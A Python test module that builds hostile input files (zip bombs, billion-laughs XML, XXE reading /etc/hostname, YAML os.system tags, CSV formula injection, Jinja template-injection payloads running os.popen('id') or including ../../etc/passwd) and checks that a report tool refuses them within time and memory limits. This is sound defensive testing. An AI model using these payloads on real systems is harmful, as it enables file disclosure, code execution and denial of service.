"""Files made to do harm, the same every time, and what each command makes of them.

Those of the other tests (packages, briefings, templates) and some that take room or time to make.
"""

from __future__ import annotations

import io
import json
import os
import re
import struct
import tempfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from functools import partial
from pathlib import Path

from msgspec import Struct

from tests.hardness.harness import seeds
from tests.hardness.harness.killing import run_in
from tests.refreshing.worked import HERE
from tests.word_reading.packages import docx, p, pack, parts_of, r

Make = Callable[[], bytes]


class Hostile(Struct, frozen=True):
    """A hostile file."""

    group: str
    name: str
    suffix: str
    """.docx, .md (a report type's body) or that of an indicator file."""
    make: Make


HEAVY = frozenset(
    "十万个书签 一百万个书签 十万个空段 五万个段 一段二十万字 一段十万个文字块 十万行各一格（xlsx） 一百万格（xlsx） "
    "四百万格（xlsx） 共享文字五十万条（xlsx） 合并单元格十万处（xlsx） 单元格样式十万种（xlsx） 一百万行（json） "
    "一行一百万列（csv） 重复行列一百万次（ods） 压缩包套压缩包 压缩包套压缩包（xlsx） XML 炸弹（xlsx） many pictures xml 共享文字一条三千万字（xlsx）".split()
)
"""Those that take seconds or hundreds of megabytes: not for a quick look."""


def corpus() -> list[Hostile]:
    """All of them."""
    from tests.hardness.test_hostile_briefings import ODD, REFUSED
    from tests.hardness.test_hostile_templates import HEADS, TEXT
    from tests.hardness.test_hostile_templates import REFUSED as BODIES

    kinds = [*BODIES, *TEXT, *_BODIES]
    whole = [f"---\n标题: 甲\n---\n{body}" for body in kinds]
    whole += [f"---\n标题: 甲\n{head}\n---\n文" for head in HEADS]
    found = [Hostile(GOOD, name, ending(name), make) for name, make in _GOOD.items()]
    found += [Hostile("材料", name, ".docx", make) for name, (make, _) in REFUSED.items()]
    found += [Hostile("材料", name, ".docx", make) for name, make in (*ODD.items(), *_DOCX.items())]
    found += [Hostile("指标文件", name, ending(name), make) for name, make in _DATA.items()]
    found += [
        Hostile("模板", f"模板{n}", ".md", partial(str.encode, text, "utf-8", "surrogatepass"))
        for n, text in enumerate(whole)
    ]
    return found


def ending(name: str) -> str:
    """The suffix in the name of an indicator file of the corpus."""
    return "." + name.rpartition("（")[2].rstrip("）").partition("，")[0]


GOOD = "好文件（对照：都该读得了）"
_GOOD: dict[str, Make] = {
    "生成的（docx）": lambda: seeds.briefings()[0],
    "有人改过的（docx）": lambda: seeds.briefings()[1],
    "有批注的（docx）": lambda: seeds.briefings()[2],
    "有修订的（docx）": lambda: seeds.briefings()[3],
    **{f"指标文件（{suffix}）": partial(lambda s: seeds.data()[f".{s}"][0], suffix)
       for suffix in ("xlsx", "json", "yaml", "csv", "tsv", "xls", "ods")},
    "指标文件 GB18030（csv）": lambda: seeds.data()[".csv"][1],
    "报告类型（md）": lambda: (HERE / "type" / "report.md").read_bytes(),
}  # fmt: skip
"""One of each kind that is as it should be."""
_CODED = re.compile(r"“[^”]*”|（[^（）]*）|：.*| ?[^ 一-鿿]*/[^ 一-鿿]* ?|[0-9][0-9,.]*")
_COMMANDS = {
    ".docx": (
        "audit {}", "audit {} --html 页.html --annotate 注.docx", "numbers {}", "check {} --all",
        "refresh {} --data 新.xlsx --entity 东河区 -o 成.docx", "finalize {} -o 定.docx --allow missing",
    ),
    ".md": ("build 类 新.xlsx --entity 东河区 -o 成.docx", "check 类 新.xlsx"),
    "": ("audit 材料.docx --data {} --entity 东河区", "build type {} -o 成.docx --entity 东河区",
         "check {}", "batch type {} -o 批 --jobs 1"),
}  # fmt: skip


class Met(Struct):
    """What came of a hostile file."""

    hostile: Hostile
    outcome: str
    """refused: the first command refused it with a message; read: it got through."""
    reason: str
    """What the refusal said, without names and numbers; "" where there was none."""
    fault: str
    seconds: float
    """Of the processor, all commands together."""
    megabytes: float
    """Memory at most, beyond what the program had before."""


def met(hostile: Hostile) -> Met:
    """The commands on a hostile file, in a child whose memory is measured."""
    reader, writer = os.pipe()
    pid = os.fork()
    if not pid:
        os.close(reader)
        os.write(writer, _meet(hostile).encode("utf-8", "replace")[:60_000])
        os._exit(0)
    os.close(writer)
    with os.fdopen(reader, "rb") as stream:
        outcome, _, said = stream.read().decode().partition("\n")
    reason, fault = (said, "") if outcome == "refused" else ("", said)
    if outcome == "refused" and hostile.group == GOOD:
        fault = f"好文件读不了：{said}"
    _, status, used = os.wait4(pid, 0)
    if status:
        outcome, fault = "fault", f"进程没了（状态{status}）"
    base = int(Path("/proc/self/statm").read_text().split()[1]) * 4096
    room = max(used.ru_maxrss * 1024 - base, 0) / 2**20
    seconds = used.ru_utime + used.ru_stime
    if seconds > 60 or room > 2000:
        fault = fault or f"{seconds:.0f}秒、{room:.0f}MB"
    return Met(hostile, outcome, reason, fault, seconds, room)


def _meet(hostile: Hostile) -> str:
    with tempfile.TemporaryDirectory(prefix="hardness-") as place:
        folder = Path(place).resolve()
        file = _lay(hostile, folder)
        refused: list[str] = []
        for line in _COMMANDS.get(hostile.suffix, _COMMANDS[""]):
            try:
                told = run_in(folder, line.format(file))
            except BaseException as error:
                return f"fault\n{line}：{error!r}"
            status, _, words = told.partition("\n")
            if status not in ("0", "1", "2") or "Traceback" in words:
                return f"fault\n{line}：退出码{status}：{words[-500:]}"
            if status != "0" and not any("\u4e00" <= c <= "\u9fff" for c in words):
                return f"fault\n{line}：没有中文说明"
            refused.append(_reason(words) if status == "1" else "")
        if strays := [n for n in os.listdir(folder) if n not in _EXPECTED and n != file]:
            return f"fault\n多出了{strays}"
        return f"refused\n{refused[0]}" if refused[0] else "read"


def _reason(words: str) -> str:
    """What a refusal says, without what differs from file to file; "" where it is none."""
    if "错误：" not in words and "共有" not in words:
        return ""
    said = next(line for line in words.split("\n") if "错误：" in line or "共有" in line)
    return _CODED.sub("", said.partition("错误：")[2] or "几处有错")


_EXPECTED = {"type", "类", "新.xlsx", "材料.docx", "页.html", "注.docx", "成.docx", "定.docx", "批"}


def _lay(hostile: Hostile, folder: Path) -> str:
    import shutil

    shutil.copytree(HERE / "type", folder / "type")
    (folder / "新.xlsx").write_bytes(seeds.newer())
    (folder / "材料.docx").write_bytes(seeds.briefings()[1])
    if hostile.suffix == ".md":
        (folder / "类").mkdir()
        (folder / "类" / "report.md").write_bytes(hostile.make())
        return "类"
    (folder / f"坏{hostile.suffix}").write_bytes(hostile.make())
    return f"坏{hostile.suffix}"


def all_met() -> Iterator[Met]:
    """The whole corpus."""
    for hostile in corpus():
        yield met(hostile)


def _with(name: str, content: bytes | str) -> bytes:
    """The worked example's workbook with a part added or exchanged."""
    return pack({**parts_of((HERE / "workbook.xlsx").read_bytes()), name: content})


def _sheet(rows: str) -> bytes:
    name = "xl/worksheets/sheet1.xml"
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return _with(name, f'<worksheet xmlns="{space}"><sheetData>{rows}</sheetData></worksheet>')


def _shared(count: int, size: int) -> bytes:
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    item = f"<si><t>{'长' * size}</t></si>"
    return _with("xl/sharedStrings.xml", f'<sst xmlns="{space}">{item * count}</sst>')


def _nested(depth: int) -> bytes:
    """An archive in an archive in an archive."""
    data = b"\0" * (1 << 20)
    for _ in range(depth):
        data = pack({"a.zip": data, "word/media/a.bin": data})
    return data


def _overlapping(count: int) -> bytes:
    """Many entries of the directory that point at the same packed bytes."""
    raw = b"\0" * (4 << 20)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(raw) + packer.flush()
    crc, body, directory = zlib.crc32(raw), b"", b""
    for n in range(count):
        name = f"word/media/{n}.png".encode()
        if not n:
            head = struct.pack(
                "<4s5H3L2H", b"PK\3\4", 20, 0, 8, 0, 0, crc, len(packed), len(raw), len(name), 0
            )
            body = head + name + packed
        directory += (
            struct.pack(
                "<4s6H3L5H2L",
                b"PK\1\2",
                20,
                20,
                0,
                8,
                0,
                0,
                crc,
                len(packed),
                len(raw),
                len(name),
                0,
                0,
                0,
                0,
                0,
                0,
            )
            + name
        )
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, count, count, len(directory), len(body), 0)
    return body + directory + end


def _quine() -> bytes:
    """An archive whose one member is as large as it says the archive is, and says so wrongly."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("r/r.zip", b"PK\3\4" * 100)
    data = bytearray(out.getvalue())
    struct.pack_into("<L", data, data.index(b"PK\1\2") + 42, data.index(b"PK\1\2"))
    return bytes(data)


def _ole(name: str) -> bytes:
    return bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 600 + name.encode("utf-16-le") + b"\0" * 600


def _json(value: object) -> bytes:
    return json.dumps(value, ensure_ascii=False).encode("utf-8", "surrogatepass")


def _rows(**row: object) -> bytes:
    return _json({"指标": [{"指标": "甲", "数值": 1, "单位": "个"} | row]})


_MARKS = "".join(
    f'<w:bookmarkStart w:id="{n}" w:name="b{n}"/><w:bookmarkEnd w:id="{n}"/>' for n in range(1000)
)
_DOCX: dict[str, Make] = {
    "十万个书签": lambda: docx(p(r("甲"), _MARKS) * 100),
    "一百万个书签": lambda: docx(p(r("甲"), _MARKS) * 1000),
    "十万个空段": lambda: docx("<w:p/>" * 100_000),
    "五万个段": lambda: docx(p(r("今年新建党支部11个，占87.7%。")) * 50_000),
    "一段二十万字": lambda: docx(p(r("今年新建党支部11个，" * 20_000))),
    "一段十万个文字块": lambda: docx(p(r("1") * 100_000)),
    "表格一行三万格": lambda: docx("<w:tbl><w:tr>" + "<w:tc><w:p/></w:tc>" * 30_000 + "</w:tr></w:tbl>"),
    "表格套表格二百层": lambda: docx("<w:tbl><w:tr><w:tc>" * 80 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 80),
    "属性值一百万字": lambda: docx(f'<w:p w:rsidR="{"A" * 1_000_000}">{r("甲")}</w:p>'),
    "双向控制符和非字符": lambda: docx(p(r("\u202e甲11个\u2066\ufdd0\ufeff\u200b"))),
    "代理区字符引用": lambda: docx(p(r("&#xD800;"))),
    "零字符": lambda: docx(p(r("甲\0乙"))),
    "压缩包套压缩包": lambda: _nested(6),
    "重叠的压缩包（4,000个部件共用一段）": lambda: _overlapping(4_000),
    "自己指着自己的压缩包": _quine,
    "外部引用的图片和模板": lambda: pack(
        {**parts_of(docx(p(r("甲")))), "word/_rels/document.xml.rels": (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
            ' Target="http://192.0.2.1/a.dotm" TargetMode="External"/></Relationships>')}
    ),
    "指标文件改了后缀": lambda: (HERE / "workbook.xlsx").read_bytes(),
}  # fmt: skip
_DATA: dict[str, Make] = {
    "XFD1048576 处一格（xlsx）": lambda: _sheet('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
    "行号和列号超出表格（xlsx）": lambda: _sheet('<row r="99999999"><c r="ZZZZZZ9"><v>1</v></c></row><row r="-1"><c r="A0"><v>1</v></c></row>'),
    "十万行各一格（xlsx）": lambda: _sheet("".join(f'<row r="{n}"><c r="A{n}"><v>1</v></c></row>' for n in range(1, 100_001))),
    "一百万格（xlsx）": lambda: _sheet(f"<row>{'<c><v>1</v></c>' * 1000}</row>" * 1000),
    "四百万格（xlsx）": lambda: _sheet(f"<row>{'<c><v>1</v></c>' * 4000}</row>" * 1000),
    "共享文字五十万条（xlsx）": lambda: _shared(500_000, 1),
    "共享文字一条三千万字（xlsx）": lambda: _shared(1, 10_000_000),
    "合并单元格十万处（xlsx）": lambda: _with("xl/worksheets/sheet1.xml", _merged(100_000)),
    "单元格样式十万种（xlsx）": lambda: _with("xl/styles.xml", _styles(100_000)),
    "外部实体（xlsx）": lambda: _with("xl/workbook.xml", '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]><a>&x;</a>'),
    "十亿个笑（xlsx）": lambda: _with("xl/sharedStrings.xml", _laughs()),
    "部件名往上走（xlsx）": lambda: _with("../../xl/evil.xml", "<a/>"),
    "重叠的压缩包（xlsx）": lambda: _overlapping(4_000),
    "压缩包套压缩包（xlsx）": lambda: _nested(6),
    "改了后缀的 .docx（xlsx）": lambda: seeds.briefings()[0],
    "带密码（xlsx）": lambda: _ole("EncryptedPackage"),
    "旧格式改后缀（xlsx）": lambda: _ole("Workbook"),
    "XML 炸弹（xlsx）": lambda: _with("xl/media/a.xml", b" " * (80 << 20)),
    "零字节后的表格（ods）": lambda: b"PK\3\4" + b"\0" * 1000,
    "重复行列一百万次（ods）": lambda: _ods('table:number-rows-repeated="1048576"', 'table:number-columns-repeated="16384"'),
    "坏的旧格式（xls）": lambda: (Path(__file__).parent / "seed.xls").read_bytes()[:3000] + b"\xff" * 3000,
    "像公式的地区（json）": lambda: _rows(地区="=HYPERLINK(\"http://192.0.2.1\")", 指标="=1+1", 单位="@个"),
    "单独的代理（json）": lambda: _rows(指标="甲\ud800"),
    "代理的转义（json）": lambda: b'{"\\ud800": [{"\\udfff": 1}], "\xe6\x8c\x87\xe6\xa0\x87": [{"\xe6\x8c\x87\xe6\xa0\x87": "\\ud83d"}]}',
    "双向控制符（json）": lambda: _rows(指标="\u202e甲", 单位="个\u2066"),
    "非字符和零字符（json）": lambda: _rows(指标="甲\ufdd0\ufffe\u0000乙"),
    "嵌套十万层（json）": lambda: b"[" * 100_000 + b"]" * 100_000,
    "一百万行（json）": lambda: _json({"指标": [{"指标": "甲"}] * 300_000}),
    "同一个键两次（json）": lambda: b'{"a": 1, "a": [{"b": 1, "b": 2}]}',
    "数太大（json）": lambda: b'{"\xe6\x8c\x87\xe6\xa0\x87": [{"a": 1e999999999}, {"a": ' + b"9" * 100_000 + b"}]}",
    "锚点的炸弹（yaml）": lambda: b"a: &a [x,x,x]\n" + b"".join(b"b%d: &b%d [*a,*a]\n" % (n, n) for n in range(50)),
    "对象标签（yaml）": lambda: "指标: !!python/object/apply:os.system ['true']\n".encode(),
    "嵌套一万层（yaml）": lambda: b"[" * 10_000,
    "行尾混用（csv）": lambda: "指标,数值\r甲,1\n乙,2\r\n丙,3\n\r丁,4\u2028戊,5".encode(),
    "零字节（csv）": lambda: "指标,数值\n甲\0,1\n".encode(),
    "没有结尾的引号（csv）": lambda: ("指标,数值\n\"甲,1\n" + "乙,2\n" * 100_000).encode(),
    "一行一百万列（csv）": lambda: ("指标" + ",数值" * 1_000_000).encode(),
    "像公式的文字（csv）": lambda: "指标,数值,单位,地区\n=cmd|' /C calc'!A0,1,个,+1\n@SUM(1),2,个,-2\n".encode(),
    "GB18030 的半个字（csv）": lambda: "指标,数值\n甲,1\n".encode("gb18030") + b"\x81",
}  # fmt: skip
_BODIES = (
    "{{ ''.__class__.__mro__ }}", "{{ 甲.__init__.__globals__ }}", "{{ ''|attr('__class__') }}",
    "{{ [].append(1) }}", "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "{{ lipsum.__globals__ }}",
    "{{ '%999999999d' % 1 }}", "{{ '%s' * 999999999 }}", "{{ '{0:>999999999}'.format(1) }}", "{{ 'a' * 10**9 }}",
    "{{ 10 ** 10 ** 10 }}", "{{ range(10**9)|list }}", "{{ range(10**9)|join }}",
    "{% for a in range(999) %}" * 4 + "x" + "{% endfor %}" * 4,
    "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}", "{% include 'report.md' %}", "{% include '../../etc/passwd' %}",
    "{% import 'report.md' as x %}{{ x }}", "{% extends 'report.md' %}", "{% set x = self %}{{ x.__dict__ }}",
    "{{ namespace(a=1).__class__ }}", "{{ joiner }}{{ dict }}{{ request }}{{ config }}", "{{ 做法.__getitem__ }}",
    "{{ " + "(" * 5000 + "1" + ")" * 5000 + " }}", "{{ 1" + "+1" * 20_000 + " }}", "{% if 1 %}" * 3000 + "{% endif %}" * 3000,
    "{{ 两新党组织" + "|汉字" * 2000 + " }}", "\u202e{{ 两新党组织 }}", "甲\x00乙", "甲\r乙\r\n丙\n\r丁", "\ud800", "\ufdd0\ufffe",
)  # fmt: skip


def _merged(count: int) -> str:
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    merged = "".join(f'<mergeCell ref="A{2 * n + 1}:B{2 * n + 2}"/>' for n in range(count))
    return f'<worksheet xmlns="{space}"><sheetData/><mergeCells>{merged}</mergeCells></worksheet>'


def _styles(count: int) -> str:
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return f'<styleSheet xmlns="{space}"><cellXfs>{"<xf/>" * count}</cellXfs></styleSheet>'


def _laughs() -> str:
    entities = "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    return f'<!DOCTYPE a [<!ENTITY a "哈哈">{entities}]><a>&j;</a>'


def _ods(row: str, cell: str) -> bytes:
    parts: dict[str, bytes | str] = dict(
        parts_of((Path(__file__).parent / "seed.ods").read_bytes())
    )
    content = parts_of((Path(__file__).parent / "seed.ods").read_bytes())["content.xml"].decode()
    far = f'<table:table-row {row}><table:table-cell {cell} office:value-type="float" office:value="1"/></table:table-row>'
    parts["content.xml"] = content.replace("</table:table>", far + "</table:table>")
    return pack(parts)
